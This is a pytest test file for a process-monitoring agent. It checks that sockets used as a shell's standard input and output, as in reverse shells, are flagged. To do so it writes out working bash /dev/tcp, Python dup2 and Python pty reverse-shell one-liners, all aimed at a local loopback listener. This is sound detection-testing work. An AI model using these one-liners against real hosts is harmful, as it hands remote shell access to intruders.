"""stdio sockets: a shell whose stdin/stdout/stderr is a network socket (a reverse shell) is flagged on the record of
that socket, whether the owner itself or a child that inherited it has it on fd 0-2. Real shells, on loopback."""

from __future__ import annotations

import os
import shutil
import signal
import subprocess
import sys
from collections.abc import Iterator

import psutil
import pytest
from agent_helpers import CHILD_ENV, HOLD_CONNECTION, Listener, readline, wait_until

from agent_local import snapshot


@pytest.fixture
def shells() -> Iterator[list[subprocess.Popen[bytes]]]:
    """Processes started in their own session; the whole group is killed at the end."""
    started: list[subprocess.Popen[bytes]] = []
    try:
        yield started
    finally:
        for proc in started:
            try:
                os.killpg(proc.pid, signal.SIGKILL)
            except ProcessLookupError:
                pass
            proc.wait(timeout=10)


def _spawn(started: list[subprocess.Popen[bytes]], argv: list[str]) -> subprocess.Popen[bytes]:
    proc = subprocess.Popen(argv, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                            start_new_session=True, env=CHILD_ENV)
    started.append(proc)
    return proc


def _peer_port(lst: Listener) -> int:
    assert wait_until(lambda: len(lst.accepted) == 1), "the shell never connected"
    return lst.accepted[0].getpeername()[1]


def _stdin_is_socket(pid: int) -> bool:
    try:
        return os.readlink(f"/proc/{pid}/fd/0").startswith("socket:")
    except OSError:
        return False


def _socket_record(records: list[dict], local_port: int, remote_port: int) -> dict:
    [record] = [r for r in records if r["kind"] == "connection" and r["local_port"] == local_port
                and r["remote_port"] == remote_port]
    return record


@pytest.mark.skipif(shutil.which("bash") is None, reason="needs bash")
def test_bash_dev_tcp_reverse_shell_is_stdio(shells):
    lst = Listener()
    try:
        # The outer bash opens the socket on fd 5 and holds it; the interactive bash it starts has it as 0, 1, 2.
        outer = _spawn(shells, ["bash", "-c", f"exec 5<>/dev/tcp/127.0.0.1/{lst.port}; bash -i <&5 >&5 2>&5"])
        port = _peer_port(lst)
        # The inner bash exists from its fork on, and has the socket as stdio once its redirections are done.
        assert wait_until(lambda: any(_stdin_is_socket(c.pid) for c in psutil.Process(outer.pid).children()))
        records = snapshot()
    finally:
        lst.close()
    shell = _socket_record(records, port, lst.port)
    assert (shell["pid"], shell["process_path"], shell["stdio"], shell["direction"]) == (
        outer.pid, os.path.realpath(shutil.which("bash") or ""), True, "outbound")
    # Our accepted end is an ordinary socket of an ordinary process.
    assert _socket_record(records, lst.port, port)["stdio"] is False


def test_socket_duplicated_onto_its_owners_stdio(shells):
    lst = Listener()
    try:
        code = ("import os, socket, sys, time\n"
                "s = socket.create_connection(('127.0.0.1', int(sys.argv[1])))\n"
                "for fd in (0, 1, 2):\n    os.dup2(s.fileno(), fd)\n"
                "time.sleep(60)\n")
        proc = _spawn(shells, [sys.executable, "-c", code, str(lst.port)])
        port = _peer_port(lst)
        assert wait_until(lambda: _stdin_is_socket(proc.pid))
        records = snapshot()
    finally:
        lst.close()
    assert (_socket_record(records, port, lst.port)["pid"], _socket_record(records, port, lst.port)["stdio"]) == (
        proc.pid, True)


def test_python_pty_reverse_shell_is_recorded_on_the_python(shells):
    """pty.spawn: python dup2()s the socket onto its own fd 0-2 and relays it to a shell on a pseudo-terminal.
    agent_local records the socket on the python (which holds it, stdio true); the shell holds no socket, its
    stdio is the pty. Telling the python-with-a-child-shell pattern apart is the orchestrator's job."""
    lst = Listener()
    try:
        code = ("import os, pty, socket, sys\n"
                "s = socket.create_connection(('127.0.0.1', int(sys.argv[1])))\n"
                "for fd in (0, 1, 2):\n    os.dup2(s.fileno(), fd)\n"
                "pty.spawn(['/bin/sh'])\n")
        proc = _spawn(shells, [sys.executable, "-c", code, str(lst.port)])
        port = _peer_port(lst)
        assert wait_until(lambda: len(psutil.Process(proc.pid).children()) == 1)
        child = psutil.Process(proc.pid).children()[0]
        records = snapshot()
    finally:
        lst.close()
    record = _socket_record(records, port, lst.port)
    assert (record["pid"], record["process_path"], record["stdio"]) == (proc.pid, os.path.realpath(sys.executable),
                                                                         True)
    assert os.readlink(f"/proc/{child.pid}/fd/0").startswith("/dev/pts/")
    assert [r for r in records if r["kind"] == "connection" and r["pid"] == child.pid] == []


def test_ordinary_connection_is_not_stdio_and_psutil_cannot_tell(children, listener):
    child = children.python(HOLD_CONNECTION, str(listener.port))
    port = int(readline(child))
    assert _socket_record(snapshot(), port, listener.port)["stdio"] is False
    assert _socket_record(snapshot(backend="psutil"), port, listener.port)["stdio"] is None
